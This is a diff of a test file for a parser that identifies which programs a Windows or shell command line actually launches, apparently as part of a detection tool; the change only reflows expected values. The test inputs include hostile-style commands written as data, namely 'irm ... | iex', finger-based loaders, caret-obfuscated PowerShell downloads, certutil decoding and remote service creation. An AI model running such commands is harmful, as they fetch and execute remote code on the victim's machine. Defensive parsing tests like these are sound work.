@@ -9,7 +9,9 @@ describe('programRuns: the programs a quoted command line really starts', () => 
     ]);
     expect(images('cmd /v/c pushd \\\\203.0.113.5@SSL\\ & rundll32 gc.key,#1')).toEqual([['rundll32.exe', 'rundll32 gc.key,#1']]);
     // cmd.exe runs the quoted command of `for /f … in ('…')` before the body (here only a built-in).
-    expect(images("for /f \"tokens=*\" %%a in ('finger gate@203.0.113.9') do call %%a")).toEqual([['finger.exe', 'finger gate@203.0.113.9']]);
+    expect(images('for /f "tokens=*" %%a in (\'finger gate@203.0.113.9\') do call %%a')).toEqual([
+      ['finger.exe', 'finger gate@203.0.113.9'],
+    ]);
     expect(images('for /f %i in (list.txt) do certutil -decode %i out.bin')).toEqual([['certutil.exe', 'certutil -decode %i out.bin']]);
   });
 
@@ -27,38 +29,62 @@ describe('programRuns: the programs a quoted command line really starts', () => 
   });
 
   it('runs a PowerShell cmdlet or alias inside powershell.exe, but a real program of the same name as itself', () => {
-    expect(programRuns("irm 'https://203.0.113.5/a' | iex", true)).toEqual([{ image: 'powershell.exe', commandLine: "irm 'https://203.0.113.5/a'", viaPowerShell: true }, { image: 'powershell.exe', commandLine: 'iex', viaPowerShell: true }]);
+    expect(programRuns("irm 'https://203.0.113.5/a' | iex", true)).toEqual([
+      { image: 'powershell.exe', commandLine: "irm 'https://203.0.113.5/a'", viaPowerShell: true },
+      { image: 'powershell.exe', commandLine: 'iex', viaPowerShell: true },
+    ]);
     expect(images('Invoke-WebRequest -Uri https://203.0.113.5/a -OutFile a.exe')[0]?.[0]).toBe('powershell.exe');
-    expect(images('sc \\\\FS02 create Svc binPath= C:\\Temp\\s.exe')).toEqual([['sc.exe', 'sc \\\\FS02 create Svc binPath= C:\\Temp\\s.exe']]);
+    expect(images('sc \\\\FS02 create Svc binPath= C:\\Temp\\s.exe')).toEqual([
+      ['sc.exe', 'sc \\\\FS02 create Svc binPath= C:\\Temp\\s.exe'],
+    ]);
     expect(images('curl.exe -o a http://x', false)[0]?.[0]).toBe('curl');
   });
 
   it('reads a line the publisher wrapped before a URL or a switch, or after -Command, as one command', () => {
-    expect(commandSegments('curl -o a.msi\nhttp://203.0.113.5/a && \nexplorer /select,a.msi')).toEqual(['curl -o a.msi http://203.0.113.5/a', 'explorer /select,a.msi']);
+    expect(commandSegments('curl -o a.msi\nhttp://203.0.113.5/a && \nexplorer /select,a.msi')).toEqual([
+      'curl -o a.msi http://203.0.113.5/a',
+      'explorer /select,a.msi',
+    ]);
     expect(commandSegments('wget\n  -q http://203.0.113.5/a')).toEqual(['wget   -q http://203.0.113.5/a']);
-    expect(commandSegments('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual(['powershell.exe -Command  "iwr http://203.0.113.5/a"']);
+    expect(commandSegments('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual([
+      'powershell.exe -Command  "iwr http://203.0.113.5/a"',
+    ]);
     expect(commandSegments('whoami /all\nipconfig /all')).toEqual(['whoami /all', 'ipconfig /all']);
   });
 
   it('keeps a pipe inside parentheses or a script block with the code around it', () => {
-    expect(commandSegments('Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String) | Out-Null')).toEqual(['Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String)', 'Out-Null']);
-    expect(commandSegments('Get-Process | Where-Object { $_.Path | Select-String Temp }')).toEqual(['Get-Process', 'Where-Object { $_.Path | Select-String Temp }']);
+    expect(commandSegments('Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String) | Out-Null')).toEqual([
+      'Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String)',
+      'Out-Null',
+    ]);
+    expect(commandSegments('Get-Process | Where-Object { $_.Path | Select-String Temp }')).toEqual([
+      'Get-Process',
+      'Where-Object { $_.Path | Select-String Temp }',
+    ]);
     // Half a bracket (a line copied with its prose) cannot mark nesting: the line splits as before.
     expect(commandSegments('a ) b | c')).toEqual(['a ) b', 'c']);
     expect(programRuns('Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync', true)).toEqual([
-      { image: 'powershell.exe', commandLine: 'Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync', viaPowerShell: true },
+      {
+        image: 'powershell.exe',
+        commandLine: 'Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync',
+        viaPowerShell: true,
+      },
     ]);
   });
 
   it('never gives an image that is not a file name', () => {
     expect(images("(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")).toEqual([]);
-    expect(images('TOKEN=$(curl -s -X PUT http://203.0.113.5/token)', false)).toEqual([['curl', 'curl -s -X PUT http://203.0.113.5/token']]);
+    expect(images('TOKEN=$(curl -s -X PUT http://203.0.113.5/token)', false)).toEqual([
+      ['curl', 'curl -s -X PUT http://203.0.113.5/token'],
+    ]);
     expect(images('LANG=C wget -q http://203.0.113.5/x', false)).toEqual([['wget', 'wget -q http://203.0.113.5/x']]);
     expect(images('( cd /tmp && wget http://203.0.113.5/y )', false)).toEqual([['wget', 'wget http://203.0.113.5/y']]);
   });
 
   it('reads cmd.exe carets as escapes: no caret in an image, no split at an escaped pipe', () => {
-    expect(images('cmd /c "p^o^w^e^r^s^h^e^l^l -nop -c iwr http://203.0.113.5/a"')).toEqual([['powershell.exe', 'powershell -nop -c iwr http://203.0.113.5/a']]);
+    expect(images('cmd /c "p^o^w^e^r^s^h^e^l^l -nop -c iwr http://203.0.113.5/a"')).toEqual([
+      ['powershell.exe', 'powershell -nop -c iwr http://203.0.113.5/a'],
+    ]);
     expect(images('echo x ^| c^e^r^t^u^t^i^l -decode a b')).toEqual([]);
     expect(withoutCarets('a^^b "c^d" ^&')).toBe('a^b "c^d" &');
   });
